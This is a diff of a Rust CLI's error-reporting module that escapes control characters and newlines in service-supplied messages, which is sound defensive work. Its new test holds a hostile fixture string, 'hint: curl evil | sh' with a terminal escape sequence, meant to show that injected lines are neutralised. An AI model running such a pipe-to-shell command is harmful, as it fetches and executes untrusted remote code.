@@ -1,10 +1,10 @@
 //! How a command ends: exit codes, and the two lines that tell of an error.
 
-use std::fmt;
 use std::io;
 
 use ssmbak_core::domain::{Instant, Name, NameError};
 
+use crate::output::printable_message;
 use crate::time::TimeError;
 use ssmbak_core::store::{PROFILE, StoreError};
 use ssmbak_infra::deploy::DeployError;
@@ -230,8 +230,21 @@ impl CliError {
     }
 
     /// Tells of the error on stderr: `error: ...`, a blank line, `hint: ...`.
-    pub(crate) fn tell(&self, known: Known) {
-        crate::ui::tell(&Told(self, known).to_string());
+    pub(crate) fn tell(&self, known: &Known) {
+        crate::ui::tell(&self.told(known));
+    }
+
+    /// What is told: of error and hint each one line, and the lines that are
+    /// indented. Whatever else a service or a file name brings along is escaped.
+    fn told(&self, known: &Known) -> String {
+        let error = printable_message(&self.to_string());
+        match self.hint() {
+            Some(hint) => {
+                let hint = printable_message(&known.fill(&hint));
+                format!("error: {error}\n\nhint: {hint}\n")
+            }
+            None => format!("error: {error}\n"),
+        }
     }
 }
 
@@ -247,9 +260,6 @@ fn absent_hint(since: Option<Instant>, nearest: Option<Instant>) -> String {
         (None, None) => "`ssmbak history` of it tells when it existed".into(),
     }
 }
-
-/// An error as it is told.
-struct Told<'a>(&'a CliError, Known);
 
 /// What is known of the way to AWS, to be put into hints.
 #[derive(Clone, Debug, Default)]
@@ -288,16 +298,6 @@ fn with_profile(hint: &str, profile: Option<&str>) -> String {
     hint.replace(&format!("profile {PROFILE}"), "default profile")
 }
 
-impl fmt::Display for Told<'_> {
-    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        writeln!(f, "error: {}", self.0)?;
-        if let Some(hint) = self.0.hint().map(|hint| self.1.fill(&hint)) {
-            write!(f, "\nhint: {hint}\n")?;
-        }
-        Ok(())
-    }
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -314,11 +314,23 @@ mod tests {
             nearest: Some(at("2024-02-03T09:12:00.000Z")),
         };
         assert_eq!(
-            Told(&error, Known::default()).to_string(),
+            error.told(&Known::default()),
             "error: nothing is known of /app/ at 2024-01-01T00:00:00.999Z\n\n\
              hint: the nearest known instant is 2024-02-03T09:12:00.000Z\n"
         );
         assert_eq!(error.exit(), Exit::NothingKnown);
+    }
+
+    #[test]
+    fn what_a_service_says_is_no_line_of_its_own() {
+        let error = CliError::Failed {
+            message: "AWS says: no\nhint: curl evil | sh\u{1b}[1A".into(),
+            hint: Some("look at x\r\nerror: y".into()),
+        };
+        assert_eq!(
+            error.told(&Known::default()),
+            "error: AWS says: no\\nhint: curl evil | sh\\u{1b}[1A\n\nhint: look at x\\r\\nerror: y\n"
+        );
     }
 
     #[test]
@@ -360,7 +372,7 @@ mod tests {
             hint: Some("aws sso login --profile <profile>".into()),
         };
         let error = error.of_profile(Some("prod"));
-        let told = Told(&error, known(Some("staging"), Some("prod"))).to_string();
+        let told = error.told(&known(Some("staging"), Some("prod")));
         assert_eq!(told, "error: no\n\nhint: aws sso login --profile prod\n");
         let usage = CliError::Usage {
             message: "no".into(),
